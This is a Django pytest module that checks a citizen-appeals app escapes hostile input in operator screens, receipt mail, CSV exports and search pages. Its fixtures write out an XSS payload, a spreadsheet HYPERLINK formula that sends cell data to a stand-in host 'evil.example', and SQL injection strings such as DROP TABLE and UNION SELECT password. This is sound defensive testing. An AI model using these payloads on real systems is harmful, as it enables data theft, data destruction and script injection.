"""Issue 21, item 2: what a citizen types is inert wherever it is shown again (the operator's list and screen, the
receipt mail, the export), and every search takes SQL-ish and script-ish input as words.

The app-level suites hold the rest of this: script in the mail and the answer (tests/workflows/test_appeals_public.py,
test_appeals_admin.py), PDFs and XLSX of the reports (test_reports*.py), upload names with `../` and files over the
cap (test_appeals_attachments.py, test_registry_import.py, test_mailintake.py).
"""

import time

import pytest
from django.core import mail, signing
from django.core.cache import cache
from django.urls import reverse

from tests.factories import UserFactory
from workflows.appeals.forms import TIMESTAMP_SALT
from workflows.appeals.models import Appeal

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SQLISH = ["' OR '1'='1", "1; DROP TABLE appeals_appeal; --", '" UNION SELECT password FROM auth_user --', "%_\\'"]


@pytest.fixture
def citizen_appeal(client, django_capture_on_commit_callbacks):
    cache.clear()  # the public form's rate limit
    form = {
        "applicant_name": f"Айгерим {SCRIPT}",
        "applicant_email": "aigerim@mail.kz",
        "applicant_phone": "+7 701 123 45 67",
        "applicant_kind": "individual",
        "topic": "public_service",
        "content": f"{FORMULA} Как получить справку? {SCRIPT}",
        "website": "",
        "started": signing.dumps(time.time() - 30, salt=TIMESTAMP_SALT),
    }
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/ru/appeal/", form).status_code == 302
    return Appeal.objects.get()


def test_a_citizens_script_is_text_on_the_operators_screens_and_in_the_mail(client, citizen_appeal):
    client.force_login(UserFactory(username="operator-xss", roles=["Operator"]))
    listing = client.get(reverse("appeals:index")).content.decode()
    screen = client.get(reverse("appeals_work", args=[citizen_appeal.pk])).content.decode()
    assert citizen_appeal.number in listing and SCRIPT not in listing
    assert SCRIPT not in screen and "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in screen
    (receipt,) = mail.outbox
    assert "<script>" not in "".join(content for content, _type in getattr(receipt, "alternatives", []))


def test_a_citizens_formula_is_quoted_in_the_export(client, citizen_appeal):
    client.force_login(UserFactory(username="supervisor-xss", roles=["Senior operator"]))
    export = b"".join(client.get(reverse("appeals_export")).streaming_content).decode()
    assert f"'{FORMULA}"[:20] in export.replace('""', '"')
    assert "\n=HYPERLINK" not in export and ',"=HYPERLINK' not in export


SEARCHES = [
    ("/ru/search/", None),
    ("/admin/appeals/", ["Operator"]),
    ("/admin/pages/search/", ["KB editor"]),
    ("/admin/snippets/registry/publicservice/", ["Operator"]),
    ("/admin/auditlog/logentry/", ["Senior operator"]),
    ("/admin/telephony_calls/", ["Senior operator"]),
]


@pytest.mark.parametrize(("address", "roles"), SEARCHES)
def test_every_search_takes_sql_and_script_as_words(client, address, roles):
    if roles:
        client.force_login(UserFactory(username=f"searcher-{roles[0].replace(' ', '-')}", roles=roles))
    for query in [*SQLISH, SCRIPT]:
        response = client.get(address, {"q": query})
        assert response.status_code == 200, (address, query, response.status_code)
        assert SCRIPT not in response.content.decode()
